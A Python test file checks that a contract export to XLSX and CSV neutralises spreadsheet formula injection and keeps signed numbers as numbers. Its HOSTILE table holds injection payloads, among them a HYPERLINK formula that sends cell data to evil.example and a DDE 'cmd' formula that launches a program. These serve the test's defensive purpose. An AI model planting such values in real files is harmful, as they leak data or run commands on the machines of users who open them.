"""Exports carry values, never formulas: text a spreadsheet would run is inert in XLSX and
CSV (OWASP's advice), numbers stay numbers, and text a workbook cannot hold never makes the
export fail."""

import csv
import io
import zipfile

import openpyxl

from ingest.export import export
from models.contract import PerformanceTargets
from tests.reliability.reviewable import seed_contract

HOSTILE = {
    "department": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "tasks[0].name": "+1+1",
    "tasks[0].content": "@SUM(A1:A9)",
    "tasks[1].name": "-2+3",
    "overall_goal": "\t=1+1",
    "other_tasks": "\r=cmd|' /C calc'!A0",
}
NUMBER_LIKE = {"indicators[0].value": "-5%", "indicators[1].value": "+12.50"}


def _document() -> PerformanceTargets:
    from ingest.review import with_values

    return with_values(seed_contract(), HOSTILE | NUMBER_LIKE)


def test_xlsx_holds_no_formula_and_keeps_values_and_numbers() -> None:
    doc = _document()
    book = openpyxl.load_workbook(io.BytesIO(export([doc], "xlsx").content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for value in HOSTILE.values():
        (cell,) = [
            c for c in cells if _same(c.value, value) and c.parent.title == book.sheetnames[0]
        ]
        assert cell.data_type == "s" and cell.quotePrefix  # stays text when edited too
    for value in NUMBER_LIKE.values():
        assert any(c.value == value and not c.quotePrefix for c in cells)
    budget = [c for row in book["预算"].iter_rows() for c in row]
    for amount in (
        seed_contract().budget.basic_expenditure,
        seed_contract().budget.project_expenditure,
    ):
        (cell,) = [c for c in budget if c.value is not None and str(c.value) == amount]
        assert cell.data_type == "n"  # numbers stay numbers


def _same(stored: object, value: str) -> bool:
    """Equal, but for a carriage return an XML reader may hand back as a line feed."""
    return isinstance(stored, str) and stored.replace("\r", "\n") == value.replace("\r", "\n")


def test_csv_cells_that_would_run_start_with_a_quote() -> None:
    content = export([_document()], "csv").content
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        rows = {
            name: list(csv.reader(io.StringIO(zf.read(name).decode("utf-8-sig"))))
            for name in zf.namelist()
        }
    texts = [value for table in rows.values() for row in table for value in row]
    for value in HOSTILE.values():
        assert "'" + value in texts and value not in texts
    for value in NUMBER_LIKE.values():
        assert value in texts  # a signed number is not a formula
    (budget,) = [table for name, table in rows.items() if name.endswith("预算.csv")]
    budget_texts = [value for row in budget for value in row]
    assert seed_contract().budget.basic_expenditure in budget_texts  # amounts as printed


def test_control_characters_never_break_the_xlsx() -> None:
    doc = _document()
    doc = doc.model_copy(update={"department": "侨联\x01办公室\x00"})
    book = openpyxl.load_workbook(io.BytesIO(export([doc], "xlsx").content))
    values = [c.value for row in book[book.sheetnames[0]].iter_rows() for c in row]
    assert "侨联\ufffd办公室\ufffd" in values
